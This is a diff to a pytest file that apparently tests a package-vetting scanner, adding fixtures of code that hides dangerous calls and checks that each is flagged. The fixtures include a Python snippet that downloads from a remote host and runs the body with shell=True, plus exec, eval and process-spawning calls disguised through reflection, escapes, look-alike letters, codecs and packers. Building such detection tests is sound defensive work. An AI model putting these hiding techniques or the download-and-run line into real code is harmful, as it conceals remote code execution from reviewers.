@@ -782,3 +782,136 @@ def test_downloaded_data_is_run_only_as_a_command_or_an_interpreters_input(
     report = _vet(tmp_path, _package(tmp_path, language, source))
     found = [f for f in report.findings if f.rule == "download-and-run"]
     assert bool(found) is caught, [(f.rule, f.message) for f in report.findings]
+
+
+# -- names hidden from a reader: aliases, reflection, escapes, look-alike letters, packers ------
+
+HIDDEN = [
+    (
+        "an aliased import runs a download",
+        "download-and-run",
+        "python",
+        "from urllib.request import urlopen as fetch_page\nfrom subprocess import Popen as Job\n\n"
+        "def refresh():\n    body = fetch_page('https://cdn.forecast-data.io/r').read()\n"
+        "    Job(body, shell=True)\n",
+    ),
+    (
+        "a module's attribute reached through __getattribute__",
+        "hidden-code-run",
+        "python",
+        "import os\n\ndef launch(target):\n    os.__getattribute__('startfile')(target)\n",
+    ),
+    (
+        "a builtin looked up by a name decoded with an odd codec",
+        "hidden-code-run",
+        "python",
+        "import builtins\n\ndef boot(blob):\n"
+        "    runner = getattr(builtins, b'\\x85\\xa5\\x81\\x93'.decode('cp500'))\n    runner(blob)\n",
+    ),
+    (
+        "exec written in look-alike letters",
+        "hidden-code-run",
+        "python",
+        "def boot(text):\n    \uff45\uff58\uff45\uff43(text)\n",
+    ),
+    (
+        "code written in escapes run",
+        "decoded-code-run",
+        "python",
+        "def boot():\n    eval('\\x5f\\x5f\\x69\\x6d\\x70\\x6f\\x72\\x74\\x5f\\x5f')\n",
+    ),
+    (
+        "a process spawned through Reflect.get",
+        "hidden-code-run",
+        "javascript",
+        "const cp = require('child_process');\n\nfunction launch(bin) {\n"
+        "  return Reflect.get(cp, 'spawn')(bin, []);\n}\n",
+    ),
+    (
+        "a property picked by comparing names",
+        "hidden-code-run",
+        "javascript",
+        "const os = require('os');\n\nfunction who() {\n"
+        "  const key = Object.getOwnPropertyNames(os).filter((k) => k === 'userInfo')[0];\n  return os[key]();\n}\n",
+    ),
+    (
+        "a global called by a name computed at run time",
+        "hidden-code-run",
+        "javascript",
+        "function rot(s) {\n  return s.replace(/[a-z]/g, (c) => String.fromCharCode(((c.charCodeAt(0) - 84) % 26) + 97));\n}\n"
+        "function go(payload) {\n  globalThis[rot('riny')](payload);\n}\n",
+    ),
+    (
+        "code unpacked by an inline function and run",
+        "decoded-code-run",
+        "javascript",
+        "function go() {\n  eval(function (p, k) { return p.replace(/\\d/g, (d) => k[d]); }('0(1)', ['alert', 'x']));\n}\n",
+    ),
+    (
+        "a name written in escapes",
+        "hidden-code-run",
+        "javascript",
+        "const cp = require('child_process');\n\nfunction go(cmd) {\n  return cp['\\x65\\x78\\x65\\x63\\x53\\x79\\x6e\\x63'](cmd);\n}\n",
+    ),
+]
+
+
+@pytest.mark.parametrize(("family", "rule", "language", "source"), HIDDEN, ids=[h[0] for h in HIDDEN])
+def test_names_hidden_from_a_reader_are_found(
+    tmp_path: Path, family: str, rule: str, language: str, source: str
+) -> None:
+    report = _vet(tmp_path, _package(tmp_path, language, source))
+    found = [f for f in report.findings if f.rule == rule]
+    assert found, f"{family}: {[(f.rule, f.message) for f in report.findings]}"
+    assert report.verdict in ("block", "review")
+
+
+def test_code_packed_by_pyarmor_is_obfuscation(tmp_path: Path) -> None:
+    source = "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000')\n"
+    report = _vet(tmp_path, _package(tmp_path, "python", source))
+    assert any(f.rule == "obfuscation" and "PyArmor" in f.message for f in report.findings)
+    assert report.verdict == "review"
+
+
+def test_a_replaced_install_command_needs_review(tmp_path: Path) -> None:
+    setup = (
+        "from setuptools import setup\nfrom forecast_build import PostInstall\n\n"
+        "setup(name='forecast-mcp', version='1.0.0', cmdclass={'install': PostInstall})\n"
+    )
+    report = _vet(tmp_path, _setup_package(tmp_path, setup))
+    found = [f for f in report.findings if f.rule == "install-time-code"]
+    assert found and found[0].severity is Severity.MEDIUM and "'install'" in found[0].message
+    assert report.verdict == "review"
+
+
+CLEAN_DYNAMIC = [
+    (
+        "python",
+        "import importlib\nimport subprocess as sp\nfrom pathlib import Path\n\n"
+        "NAME = 'größe'\n\nclass Handlers:\n    def dispatch(self, action, payload):\n"
+        "        handler = getattr(self, 'on_' + action, None)\n        return handler(payload) if handler else None\n\n"
+        "    def on_status(self, payload):\n"
+        "        text = Path(payload['file']).read_bytes().decode('utf-8', 'replace')\n"
+        "        return sp.run(['git', 'status', '--short'], capture_output=True, text=True).stdout + text\n\n"
+        "def plugin(name):\n    return importlib.import_module(f'forecast_mcp.plugins.{name}')\n\n"
+        "def greet():\n    return 'Grüße, café ☕'\n",
+    ),
+    (
+        "javascript",
+        "const handlers = { start: () => 'started', stop: () => 'stopped' };\n\n"
+        "function dispatch(action) {\n  const key = Object.keys(handlers).find((k) => k === action);\n"
+        "  return key ? handlers[key]() : null;\n}\n\n"
+        "function jsonp(callbackName, data) {\n  window[callbackName](data);\n}\n\n"
+        "function route(name) {\n  return `on${name[0].toUpperCase()}${name.slice(1)}`;\n}\n"
+        "function fire(name) {\n  window[route(name)]();\n}\n\n"
+        "class Tool {\n  run(name, args) {\n    return this[`handle_${name}`](args);\n  }\n}\n\n"
+        "const label = '\\u00e9t\\u00e9';\nmodule.exports = { dispatch, jsonp, Tool, label };\n",
+    ),
+]
+
+
+@pytest.mark.parametrize(("language", "source"), CLEAN_DYNAMIC)
+def test_ordinary_dynamic_dispatch_and_unicode_stay_clean(tmp_path: Path, language: str, source: str) -> None:
+    report = _vet(tmp_path, _package(tmp_path, language, source))
+    serious = [(f.rule, f.message) for f in report.findings if f.severity.rank >= Severity.MEDIUM.rank]
+    assert serious == []
